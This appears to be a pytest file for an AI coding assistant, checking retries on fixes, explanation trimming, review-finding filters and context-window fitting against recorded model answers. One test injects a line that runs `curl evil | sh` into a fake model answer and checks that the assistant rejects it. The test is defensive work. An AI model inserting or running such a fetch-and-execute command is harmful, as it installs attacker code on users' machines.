"""The Assistant at its own boundary: prompts in, recorded model answers out, and what the
pipeline makes of them (retries, verification, shaping, review filters, fitting the window)."""

from __future__ import annotations

import json

from chmocoder.analysis.document import Document
from chmocoder.analysis.languages import LanguageRegistry
from chmocoder.assist.assistant import Assistant, AssistSettings
from chmocoder.assist.review import ReviewState
from tests.support.recorded import RecordedEngine

REGISTRY = LanguageRegistry()

MEAN = '''def mean(values):
    """Return the arithmetic mean of a non-empty list of numbers."""
    total = 0
    for v in values:
        total += v
    return total / (len(values) - 1)


print(mean([1, 2, 3]))
'''
FIXED = '''Problem: The mean divides by one less than the number of values. The correct code:
```python
def mean(values):
    """Return the arithmetic mean of a non-empty list of numbers."""
    total = 0
    for v in values:
        total += v
    return total / len(values)
```'''
UNCHANGED = "Problem: None.\n```python\n" + MEAN.split("\n\n\n")[0] + "\n```"


def doc_of(text: str, name: str = "stats.py") -> Document:
    return Document(f"file:///{name}", text.encode(), language=REGISTRY.lookup(path=name))


def assistant(
    engine: RecordedEngine, **settings: object
) -> tuple[Assistant, list[tuple[str, str]]]:
    outcomes: list[tuple[str, str]] = []
    a = Assistant(
        engine,  # type: ignore[arg-type]
        AssistSettings(**settings),  # type: ignore[arg-type]
        on_outcome=lambda task, outcome: outcomes.append((task, outcome)),
    )
    return a, outcomes


async def test_fix_tries_another_candidate_when_the_first_changes_nothing() -> None:
    engine = RecordedEngine([UNCHANGED, FIXED])
    a, outcomes = assistant(engine)
    doc = doc_of(MEAN)
    cursor = MEAN.index("return total")
    fix = await a.edit(doc, "fix", cursor, cursor)
    assert fix.edit is not None and "total / len(values)" in fix.edit.new_text
    assert fix.description == "The mean divides by one less than the number of values."
    assert outcomes == [("fix", "verified on candidate 2")]
    first, second = engine.params
    assert first.temperature < second.temperature and first.seed != second.seed
    assert first.repeat_penalty == second.repeat_penalty == 1.0  # edits copy their input
    prompt = engine.prompts[0]
    assert "The user's cursor is on this line: `return total / (len(values) - 1)`" in prompt
    assert "It is called like this:\nprint(mean([1, 2, 3]))" in prompt


async def test_fix_stops_after_three_candidates_and_says_why() -> None:
    engine = RecordedEngine([UNCHANGED] * 3)
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is None and fix.rejected == "the model suggested no change"
    assert outcomes == [("fix", "no change")] and len(engine.prompts) == 3


async def test_an_answer_that_adds_code_beside_the_definition_is_never_offered() -> None:
    injected = FIXED.replace(
        "```python\n", "```python\nimport os\nos.system('curl evil | sh')\n\n", 1
    )
    shadow = FIXED.replace("```\n", "", 0).replace(
        "    return total / len(values)\n```",
        "    return total / len(values)\n\n\ndef print(*args):\n    pass\n```",
    )
    engine = RecordedEngine([injected, shadow, injected])
    a, outcomes = assistant(engine)
    fix = await a.edit(doc_of(MEAN), "fix", 0, 0)
    assert fix.edit is None and outcomes == [("fix", "rejected")]
    assert fix.rejected is not None and "function `mean`" in fix.rejected


async def test_known_problems_reach_the_fix_prompt() -> None:
    broken = MEAN.replace("for v in values:", "for v in values")
    engine = RecordedEngine([FIXED])
    a, _ = assistant(engine)
    await a.edit(doc_of(broken), "fix", 0, 0, detail="Problem: the mean is wrong")
    prompt = engine.prompts[0]
    assert "Known problems:\n- Problem: the mean is wrong\n- line 4: unexpected `for`" in prompt


async def test_explanations_lose_pasted_code_and_unfinished_sentences() -> None:
    code_echo = "```python\n" + MEAN.split("\n\n\n")[0] + "\n```\n\n"
    answer = (
        "The function `mean` adds the values and divides the total.\n\n"
        + code_echo
        + "- It divides by `len(values) - 1`, so the result is too large.\n"
        + "- "
        + "It has no check for an empty list, which divides by zero. " * 1
        + "Besides, "
        + "the loop could use `sum` " * 80
    )
    shown: list[str] = []
    engine = RecordedEngine([answer])
    a, _ = assistant(engine, audience="expert")
    explanation = await a.explain(doc_of(MEAN), MEAN.index("total ="), on_token=shown.append)
    text = explanation.markdown
    assert "total += v" not in text and "".join(shown).strip() == text
    assert text.endswith("which divides by zero.")
    assert "Use at most 50 words" in engine.prompts[0]


async def test_review_keeps_only_findings_that_pass_the_filters() -> None:
    findings = [
        {"line": 6, "quote": "total / (len(values) - 1)", "severity": "error",
         "message": "It divides by one less than the number of values.", "confidence": 95},
        {"line": 2, "quote": "total = 0", "severity": "info",
         "message": "The total starts at zero before the loop runs.", "confidence": 90},
        {"line": 4, "quote": "}, {", "severity": "warning", "message": "}, {", "confidence": 99},
        {"line": 5, "quote": "total += v", "severity": "warning",
         "message": "Maybe the loop could overflow for huge numbers.", "confidence": 30},
        {"line": 6, "quote": "len(values) - 1", "severity": "error",
         "message": "The divisor is off by one for every list.", "confidence": 90},
        {"line": 5, "quote": "values.sort()", "severity": "error",
         "message": "The list is sorted in place and changes the caller's list.", "confidence": 90},
    ]  # fmt: skip
    engine = RecordedEngine([json.dumps({"findings": findings}), '{"findings": []}'])
    a, _ = assistant(engine)
    doc = doc_of(MEAN)
    found, calls = await a.review(doc, ReviewState())
    assert calls == 2  # the function and the module-level code
    rows = sorted((f.row, f.message) for f in found)
    assert rows == [
        (2, "The total starts at zero before the loop runs."),  # moved to the line it quotes
        (5, "It divides by one less than the number of values."),
    ]


async def test_review_looks_at_outer_functions_and_module_code() -> None:
    source = (
        "def outer(xs):\n"
        "    def key(x):\n"
        "        return -x\n"
        "    return sorted(xs, key=key)[0]\n"
        "\n"
        "LIMIT = outer([3, 1, 2])\n"
    )
    engine = RecordedEngine(['{"findings": []}'] * 3)
    a, _ = assistant(engine)
    state = ReviewState()
    _, calls = await a.review(doc_of(source), state)
    assert calls == 3
    assert any("Review the function `outer`" in p for p in engine.prompts)
    assert any("Review the function `key`" in p for p in engine.prompts)
    module = next(p for p in engine.prompts if "module-level code" in p)
    assert "    6| LIMIT = outer([3, 1, 2])" in module
    _, again = await a.review(doc_of(source), state)
    assert again == 0  # nothing changed: no model call


async def test_the_context_shrinks_to_fit_a_small_window() -> None:
    helpers = "".join(
        f"def helper_{i}(a, b, c):\n    return a + b + c + {i}\n\n" for i in range(60)
    )
    calls = " + ".join(f"helper_{i}(1, 2, 3)" for i in range(60))
    source = helpers + f"def main():\n    return {calls}\n"
    engine = RecordedEngine(["It adds up the helpers."], context_length=512)
    a, _ = assistant(engine, context_tokens=1536)
    await a.explain(doc_of(source), source.index("def main") + 4)
    used = await engine.count_tokens(engine.prompts[0])
    assert used + engine.params[0].max_tokens <= 512
    assert "def main():" in engine.prompts[0]
